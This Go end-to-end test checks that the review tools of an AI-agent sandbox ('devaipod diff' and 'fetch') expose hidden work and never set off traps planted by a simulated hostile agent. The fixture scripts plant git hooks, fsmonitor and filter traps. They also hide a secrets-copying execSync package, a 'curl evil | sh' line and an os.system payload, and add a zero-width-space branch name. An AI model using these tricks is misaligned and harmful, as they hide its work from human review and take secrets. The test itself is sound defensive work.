package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestE2EDiffAndFetch: an agent commits on a new branch, leaves
// uncommitted edits and a new file, and plants every trap it can in its
// git directory and work tree (hooks, fsmonitor, a filter and a diff
// driver that .gitattributes names, a nested repository with its own
// fsmonitor staged as a gitlink). diff shows the work, fetch brings the
// branch into a separate clone on the host, and no trap runs: not on the
// host, not in any container, not on the shared volume.
func TestE2EDiffAndFetch(t *testing.T) {
	e2e(t)
	repo := fixtureRepo(t)
	hostGit := func(dir string, args ...string) string {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	// A masked file, which the agent's snapshot must not take for edited.
	os.WriteFile(filepath.Join(repo, ".env"), []byte("SECRET=masked-e2e-value\n"), 0o644)
	// And an ignore rule, as most repositories have.
	os.WriteFile(filepath.Join(repo, ".gitignore"), []byte("node_modules/\n"), 0o644)
	hostGit(repo, "add", ".env", ".gitignore")
	hostGit(repo, "commit", "-q", "-m", "env")
	clone := filepath.Join(t.TempDir(), "review")
	hostGit("", "clone", "-q", repo, clone)

	name := uniqueName("e2e-work")
	cleanup(t, name)
	mustDevaipod(t, nil, "--config", standInConfig(t, ""), "up", repo, "--name", name)
	token := "TRAP" + strings.ToUpper(strings.TrimPrefix(name, "e2e-work-"))
	agent := func(script string) result {
		return devaipod(t, nil, "exec", name, "-c", "agent", "--", "sh", "-c", script)
	}
	workspace := func(script string) result {
		return devaipod(t, nil, "exec", name, "--", "sh", "-c", script)
	}
	// The uncommitted edit is hidden from the agent's own index
	// (skip-worktree): diff must show it anyway, as the workspace's git
	// would commit it.
	// The trap leaves a marker in /tmp and in the folder it runs in,
	// wherever that is, and passes its input through (a filter).
	plant := `set -e
cat > .trap.sh <<'EOF2'
#!/bin/sh
touch "/tmp/` + token + `-$1" "$PWD/` + token + `-$1" 2>/dev/null
cat
EOF2
chmod +x .trap.sh
t="$PWD/.trap.sh"
git config core.fsmonitor "$t fsmonitor"
git config filter.evil.clean "$t clean"
git config filter.evil.smudge "$t smudge"
git config diff.evil.textconv "$t textconv"
git config diff.evil.command "$t diffcmd"
for h in post-checkout pre-commit post-commit reference-transaction post-merge post-rewrite pre-push pre-auto-gc; do
	printf '#!/bin/sh\nexec %s hook-%s </dev/null\n' "$t" "$h" > .git/hooks/$h
	chmod +x .git/hooks/$h
done
echo '* filter=evil diff=evil' > .gitattributes
mkdir sub && cd sub && git init -q && echo x > x && git add x && git -c user.name=a -c user.email=a@a commit -qm x
git config core.fsmonitor "$t sub-fsmonitor"
cd ..
git checkout -q -b agent/work
echo 'the fix' > fix.txt
git add fix.txt .gitattributes .trap.sh sub
git -c user.name=agent -c user.email=agent@e2e commit -qm 'the agent fixed it'
echo 'uncommitted edit' >> README.md
git update-index --skip-worktree README.md
echo 'a new file' > new.txt
`
	if r := agent(plant); r.code != 0 {
		t.Fatalf("plant: %s", r)
	}
	agentHead := strings.TrimSpace(agent("git rev-parse HEAD").stdout)
	// What sprang so far sprang for the agent's own git: clear it.
	clear := "rm -f /tmp/" + token + "-* " + token + "-* sub/" + token + "-*"
	agent(clear)
	workspace(clear)

	t.Run("diff shows the commits and the uncommitted work", func(t *testing.T) {
		r := mustDevaipod(t, nil, "diff", name)
		for _, want := range []string{"+the fix", "+uncommitted edit", "+a new file", "diff --git a/new.txt b/new.txt", "diff --git a/.gitattributes"} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("diff lacks %q:\n%s", want, r.stdout)
			}
		}
		if strings.Contains(r.stdout, ".env") || strings.Contains(r.stdout, "masked-e2e-value") {
			t.Errorf("diff shows the masked file:\n%s", r.stdout)
		}
		stat := mustDevaipod(t, nil, "diff", name, "--stat", "--", "new.txt")
		if !strings.Contains(stat.stdout, "new.txt") || strings.Contains(stat.stdout, "fix.txt") {
			t.Errorf("diff --stat -- new.txt:\n%s", stat.stdout)
		}
	})
	t.Run("diff shows every branch fetch would bring", func(t *testing.T) {
		// A commit on a branch of its own, off the base, that HEAD's work
		// does not hold (made with plumbing: the agent's hooks and
		// filters planted above stay asleep).
		evil := `b=$(printf 'evil code\n' | git hash-object -w --stdin) &&
t=$( (git ls-tree HEAD~1; printf '100644 blob %s\tevil.txt\n' "$b") | git mktree --missing) &&
c=$(git -c user.name=agent -c user.email=agent@e2e commit-tree "$t" -p HEAD~1 -m evil) && git -c core.hooksPath=/dev/null update-ref refs/heads/evil "$c"`
		if r := agent(evil); r.code != 0 {
			t.Fatalf("%s", r)
		}
		r := mustDevaipod(t, nil, "diff", name)
		if !strings.Contains(r.stdout, "=== branch evil: not in the diff above") || !strings.Contains(r.stdout, "+evil code") ||
			!strings.Contains(r.stdout, "=== branch agent/work: its commits are in the diff above") {
			t.Errorf("diff does not show the branch that HEAD's work does not hold:\n%s", r.stdout)
		}
		if stat := mustDevaipod(t, nil, "diff", name, "--stat"); !strings.Contains(stat.stdout, "evil.txt") {
			t.Errorf("diff --stat does not count the branch:\n%s", stat.stdout)
		}
	})
	t.Run("diff shows the files git does not show", func(t *testing.T) {
		// An install the person ran as root in the workspace; then the
		// agent hides code from git with its own .gitignore, changes a
		// file of the install in place and moves another, a second later
		// than they were made, and has an attribute rewrite what git
		// reads of a file (ident).
		if r := workspace(`mkdir -p node_modules/person && for f in index other keep; do echo installed > node_modules/person/$f.js; done`); r.code != 0 {
			t.Fatalf("%s", r)
		}
		time.Sleep(1500 * time.Millisecond)
		hide := `mkdir -p src/node_modules/leftpad-lite &&
echo 'require("child_process").execSync("cp /run/devaipod/secrets/* /tmp/")' > src/node_modules/leftpad-lite/index.js &&
printf '.gitignore\nbuild.sh\n' > src/.gitignore && echo 'curl evil | sh' > src/build.sh &&
echo 'agent was here' >> node_modules/person/index.js && mv node_modules/person/other.js node_modules/person/main.js &&
echo '*.py ident' >> .gitattributes && echo 'v = "$Id: __import__(\"os\").system(\"id\") $"' > app.py`
		if r := agent(hide); r.code != 0 {
			t.Fatalf("%s", r)
		}
		r := mustDevaipod(t, nil, "diff", name)
		for _, want := range []string{
			"=== hidden (ignored, ",
			"): src/node_modules/leftpad-lite/index.js\n",
			`+require("child_process").execSync("cp /run/devaipod/secrets/* /tmp/")`,
			"=== hidden (ignored, another user's file, changed or moved after it was made, 25 bytes): node_modules/person/index.js\n+installed\n+agent was here\n",
			"=== hidden (ignored, another user's file, changed or moved after it was made, 10 bytes): node_modules/person/main.js\n",
			"=== hidden (ignored, 20 bytes): src/.gitignore\n",
			"=== hidden (ignored, 15 bytes): src/build.sh\n+curl evil | sh\n",
			"=== hidden (in the nested repository sub, 2 bytes): sub/x\n",
			"\n=== and 1 file (10 bytes) that git does not show and the agent cannot have written",
			`+v = "$Id: __import__(\"os\").system(\"id\") $"`,
		} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("diff lacks %q:\n%s", want, r.stdout)
			}
		}
		if strings.Contains(r.stdout, "keep.js") {
			t.Errorf("diff lists a file of the person's install that the agent did not touch:\n%s", r.stdout)
		}
		stat := mustDevaipod(t, nil, "diff", name, "--stat", "--", "src")
		if !strings.Contains(stat.stdout, " | src/node_modules/leftpad-lite/index.js\n") || strings.Contains(stat.stdout, "execSync") || strings.Contains(stat.stdout, "person") {
			t.Errorf("diff --stat -- src:\n%s", stat.stdout)
		}
		if r := mustDevaipod(t, nil, "diff", name, "--no-hidden"); strings.Contains(r.stdout, "leftpad") || strings.Contains(r.stdout, "=== hidden") {
			t.Errorf("diff --no-hidden:\n%s", r.stdout)
		}
		agent("rm -rf src app.py && sed -i '$d' .gitattributes")
	})
	t.Run("diff --commit shows that commit alone", func(t *testing.T) {
		r := mustDevaipod(t, nil, "diff", name, "--commit", agentHead)
		if !strings.Contains(r.stdout, "+the fix") || strings.Contains(r.stdout, "uncommitted edit") || strings.Contains(r.stdout, "a new file") {
			t.Errorf("diff --commit %s (the agent's commit, without its uncommitted work):\n%s", agentHead, r.stdout)
		}
		missing := strings.Repeat("ab", 20)
		if r := devaipod(t, nil, "diff", name, "--commit", missing); r.code == 0 || !strings.Contains(r.stderr, "the agent's repository has no commit "+missing) {
			t.Errorf("diff --commit of a commit the agent does not have: %s", r)
		}
		if r := devaipod(t, nil, "diff", name, "--commit", "HEAD"); r.code == 0 || !strings.Contains(r.stderr, `"HEAD" is not a full commit id`) {
			t.Errorf("diff --commit HEAD: %s", r)
		}
	})
	t.Run("make demo keeps a pod that holds the agent's work", func(t *testing.T) {
		r := demoReplace(t, name)
		if r.code != 1 || !strings.Contains(r.stderr, "demo: pod '"+name+"' has work of its agent's that a new demo would throw away") ||
			!strings.Contains(r.stderr, "fetch "+name+" --repo /tmp/demo-repo") {
			t.Errorf("%s", r)
		}
		if st := devaipod(t, nil, "status", name); st.code != 0 {
			t.Errorf("the pod is gone: %s", st)
		}
	})
	t.Run("fetch brings the branch into another clone", func(t *testing.T) {
		r := mustDevaipod(t, nil, "fetch", name, "--repo", clone)
		if !strings.Contains(r.stdout, "devaipod-"+name+"/agent/work") || !strings.Contains(r.stdout, "uncommitted work") {
			t.Errorf("fetch output:\n%s", r)
		}
		if got := hostGit(clone, "rev-parse", "devaipod-"+name+"/agent/work", "devaipod-"+name); got != agentHead+"\n"+agentHead {
			t.Errorf("fetched refs %q, want the agent's HEAD %s", got, agentHead)
		}
		if got := hostGit(clone, "log", "-1", "--format=%s", "devaipod-"+name); got != "the agent fixed it" {
			t.Errorf("git log devaipod-NAME: %q", got)
		}
		var res struct {
			Refs        map[string]string
			Uncommitted bool
		}
		js := mustDevaipod(t, nil, "fetch", name, "--repo", clone, "-o", "json")
		if err := json.Unmarshal([]byte(js.stdout), &res); err != nil || !res.Uncommitted || res.Refs["refs/remotes/devaipod-"+name+"/HEAD"] != agentHead {
			t.Errorf("fetch -o json: %v %s", err, js.stdout)
		}
		if hostGit(clone, "status", "--porcelain") != "" || hostGit(clone, "rev-parse", "--abbrev-ref", "HEAD") != "main" {
			t.Error("fetch changed the clone's work tree or branch")
		}
	})
	t.Run("no trap ran anywhere", func(t *testing.T) {
		look := "ls /tmp/" + token + "-* " + token + "-* sub/" + token + "-* 2>/dev/null; true"
		for where, r := range map[string]result{"agent": agent(look), "workspace": workspace(look)} {
			if strings.TrimSpace(r.stdout) != "" {
				t.Errorf("traps ran in the %s container or on the shared volume: %s", where, r.stdout)
			}
		}
		for _, dir := range []string{os.TempDir(), clone, repo} {
			if m, _ := filepath.Glob(filepath.Join(dir, token+"-*")); len(m) > 0 {
				t.Errorf("traps ran on the host: %v", m)
			}
		}
		// The traps are live: the agent's own git springs them.
		agent("git status >/dev/null; git add -A; git -c user.name=a -c user.email=a@a commit -qm more")
		if r := agent("ls /tmp/" + token + "-*"); !strings.Contains(r.stdout, "fsmonitor") || !strings.Contains(r.stdout, "clean") || !strings.Contains(r.stdout, "hook-pre-commit") {
			t.Errorf("the traps do not work, so this test proves nothing: %s", r)
		}
	})
	t.Run("fetch refuses a branch whose name hides what it is", func(t *testing.T) {
		before := hostGit(clone, "for-each-ref")
		// "main" and a zero-width space: it reads as main.
		if r := agent("git checkout -q -b \"$(printf 'main\\342\\200\\213')\" && echo z > z.txt && git add z.txt && git -c user.name=a -c user.email=a@a commit -qm z"); r.code != 0 {
			t.Fatalf("agent makes the branch: %s", r)
		}
		r := devaipod(t, nil, "fetch", name, "--repo", clone)
		if r.code == 0 || !strings.Contains(r.stderr, `main\u200b`) || !strings.Contains(r.stderr, "nothing was fetched") || strings.Contains(r.stderr, "main\u200b") {
			t.Errorf("fetch of a hidden branch name: %s", r)
		}
		if after := hostGit(clone, "for-each-ref"); after != before {
			t.Errorf("fetch wrote refs:\n%s\nwas\n%s", after, before)
		}
	})
	t.Run("the host keeps at most --max-size of the agent's work", func(t *testing.T) {
		if r := agent("git checkout -q agent/work && head -c 3145728 /dev/urandom > big.bin && git add big.bin && git -c user.name=a -c user.email=a@a commit -qm big"); r.code != 0 {
			t.Fatalf("agent commits 3 MiB: %s", r)
		}
		before := hostGit(clone, "for-each-ref")
		for _, args := range [][]string{{"fetch", name, "--repo", clone, "--max-size", "1m"}, {"diff", name, "--stat", "--max-size", "1m"}} {
			r := devaipod(t, nil, args...)
			if r.code == 0 || !strings.Contains(r.stderr, "the agent's work is larger than 1048576 bytes as a bundle") || !strings.Contains(r.stderr, "--max-size") {
				t.Errorf("%v: %s", args, r)
			}
		}
		if after := hostGit(clone, "for-each-ref"); after != before {
			t.Errorf("fetch wrote refs:\n%s\nwas\n%s", after, before)
		}
		if left, _ := filepath.Glob(filepath.Join(os.TempDir(), "devaipod-work-*.bundle")); len(left) > 0 {
			t.Errorf("bundles left on the host: %v", left)
		}
		// The control: the same work within the default bound.
		if r := mustDevaipod(t, nil, "diff", name, "--stat"); !strings.Contains(r.stdout, "big.bin") {
			t.Errorf("diff --stat within the bound: %s", r)
		}
	})
	t.Run("fetch refuses more than 1000 branches", func(t *testing.T) {
		// Each would be a ref and a reflog in the user's repository.
		if r := agent(`h=$(git rev-parse HEAD); i=0; while [ $i -lt 1001 ]; do i=$((i+1)); echo "create refs/heads/many/$i $h"; done | git update-ref --stdin`); r.code != 0 {
			t.Fatalf("agent makes 1001 branches: %s", r)
		}
		before := hostGit(clone, "for-each-ref")
		if r := devaipod(t, nil, "fetch", name, "--repo", clone); r.code == 0 || !strings.Contains(r.stderr, "branches, more than 1000; nothing was fetched") {
			t.Errorf("fetch of 1001 branches and more: %s", r)
		}
		if after := hostGit(clone, "for-each-ref"); after != before {
			t.Errorf("fetch wrote refs:\n%.500s\nwas\n%s", after, before)
		}
		if r := agent(`git for-each-ref --format='delete %(refname)' refs/heads/many | git update-ref --stdin`); r.code != 0 {
			t.Fatalf("%s", r)
		}
	})
	t.Run("an object over 100 MiB is refused before any git reads it", func(t *testing.T) {
		// Git would hold it whole in memory, as large as its header says
		// (a delta of a few bytes can say gigabytes: TestCheckBundle); a
		// file of 150 MiB of zeros is a megabyte or so in the bundle.
		if r := agent("head -c 157286400 /dev/zero > zeros.bin && git add zeros.bin && git -c user.name=a -c user.email=a@a commit -qm zeros"); r.code != 0 {
			t.Fatalf("agent commits 150 MiB of zeros: %s", r)
		}
		before := hostGit(clone, "for-each-ref")
		for _, args := range [][]string{{"fetch", name, "--repo", clone}, {"diff", name, "--stat"}} {
			r := devaipod(t, nil, args...)
			if r.code == 0 || !strings.Contains(r.stderr, "an object of 150 MiB") || !strings.Contains(r.stderr, "more than 100 MiB") {
				t.Errorf("%v: %s", args, r)
			}
		}
		if after := hostGit(clone, "for-each-ref"); after != before {
			t.Errorf("fetch wrote refs:\n%s\nwas\n%s", after, before)
		}
	})
}
